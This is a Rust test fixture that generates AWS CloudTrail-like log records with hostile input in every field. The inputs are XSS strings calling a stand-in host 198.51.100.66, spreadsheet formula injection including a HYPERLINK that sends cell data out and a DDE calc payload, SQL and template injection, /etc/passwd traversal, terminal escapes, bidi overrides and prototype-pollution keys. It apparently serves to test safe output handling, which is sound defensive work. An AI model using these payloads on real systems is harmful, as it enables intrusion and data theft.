//! Records whose every text tries to be more than text.

use serde_json::{Map, Value, json};

/// What ends up in pages, links, consoles, spreadsheets and file names when nobody pays attention.
const TEXTS: &[&str] = &[
    "<script>document.title='owned'</script>",
    "\"><img src=http://198.51.100.66/pixel.png onerror=alert(1)>",
    "javascript:alert(document.domain)",
    "<svg/onload=fetch('//198.51.100.66')>",
    "</style><style>@import url(http://198.51.100.66/x.css)</style>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<a href=\"http://198.51.100.66/\" target=_blank>click</a>",
    "<!--",
    "]]>",
    "--></textarea></title></script>",
    "&lt;b&gt;&#x3c;b&#x3e;&nbsp;",
    "=HYPERLINK(\"http://198.51.100.66/?x=\"&A1,\"open\")",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "a,b;\"c\"\r\nd",
    "'; DROP TABLE events; --",
    "' OR '1'='1",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7}",
    "%s%n%00",
    "../../../../etc/passwd",
    "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}",
    "nul\u{0}inside",
    "\u{1}\u{2}\u{8}\u{b}\u{c}\u{1f}\u{7f}\u{85}",
    "gpj.\u{202e}exe.\u{2066}nested\u{2069}\u{200f}",
    "zero\u{200b}width\u{feff}\u{2060}joiner",
    "line\u{2028}separator\u{2029}paragraph",
    "🧨👩‍👩‍👧‍👦🏴‍☠️ e\u{301}\u{301}\u{301}\u{301}\u{301}",
    "ﷺ العربية עברית 漢字",
    "\u{fffd}\u{ffff}\u{10ffff}",
    "",
    " ",
    "null",
    "undefined",
    "NaN",
    "true",
    "-0",
    "1e999",
];

/// Keys that mean something to JavaScript, to queries, or to nobody.
const KEYS: &[&str] = &[
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "",
    " ",
    ".",
    "a.b",
    "a..b",
    "[0]",
    "*",
    "$ref",
    "<b>key</b>",
    "=1+1",
    "ключ",
    "\u{202e}yek",
    "new\nline",
    "\u{0}",
    "eventTime",
];

/// A trail file of records that are hostile in every field: markup, scripts, links, formulae, control characters,
/// directional overrides, odd keys, deep nesting, and texts of 100,000 characters.
pub fn hostile() -> Vec<u8> {
    let texts = TEXTS.iter().map(|text| (*text).to_owned());
    let long = ["A".repeat(100_000), "🧨".repeat(20_000), "<b>".repeat(30_000)];
    let records: Vec<Value> = texts
        .chain(long)
        .enumerate()
        .map(|(number, text)| record(number, &text))
        .collect();
    json!({ "Records": records }).to_string().into_bytes()
}

fn record(number: usize, text: &str) -> Value {
    // Times and ids are sound, so that every record gets a row; the last ones are hostile there too.
    let sound = number % 4 != 3;
    let pick = |sane: String| if sound { sane } else { format!("{text}{number}") };
    let mut odd = Map::new();
    for key in KEYS {
        odd.insert((*key).to_owned(), json!(text));
    }
    let nested = (0..40).fold(
        json!(text),
        |inner, _| json!({ text.chars().take(20).collect::<String>(): [inner] }),
    );
    json!({
        "eventVersion": "1.11",
        "userIdentity": {
            "type": if sound { "IAMUser" } else { text },
            "principalId": text,
            "arn": format!("arn:aws:iam::111122223333:user/{text}"),
            "accountId": text,
            "accessKeyId": text,
            "userName": text,
            "invokedBy": text,
            "identityProvider": text,
            "sessionContext": {
                "sessionIssuer": { "type": "Role", "userName": text, "arn": text, "principalId": text, "accountId": text },
                "attributes": { "creationDate": text, "mfaAuthenticated": text },
                "sourceIdentity": text,
            },
            "onBehalfOf": { "userId": text, "identityStoreArn": text },
        },
        "eventTime": pick(format!("2026-01-12T10:{:02}:00Z", number % 60)),
        "eventSource": text,
        "eventName": text,
        "awsRegion": text,
        "sourceIPAddress": text,
        "userAgent": text,
        "errorCode": text,
        "errorMessage": text,
        "requestParameters": { "bucketName": text, "list": [text, null, 1, -0.0, 1e300, true, { "key": text }], "odd": odd, "nested": nested },
        "responseElements": { "url": format!("https://198.51.100.66/{text}"), "text": text },
        "additionalEventData": { "UserName": text, "LoginTo": format!("javascript:{text}") },
        "requestID": text,
        "eventID": pick(format!("00000000-0000-4000-8000-{number:012}")),
        "readOnly": if sound { json!(number.is_multiple_of(2)) } else { json!(text) },
        "resources": [{ "accountId": text, "type": text, "ARN": text }, { "ARNPrefix": text }],
        "eventType": if sound { "AwsApiCall" } else { text },
        "managementEvent": true,
        "recipientAccountId": text,
        "sharedEventID": text,
        "vpcEndpointId": text,
        "eventCategory": if sound { "Management" } else { text },
        "tlsDetails": { "tlsVersion": text, "cipherSuite": text, "clientProvidedHostHeader": text },
        "sessionCredentialFromConsole": text,
        text: text,
    })
}
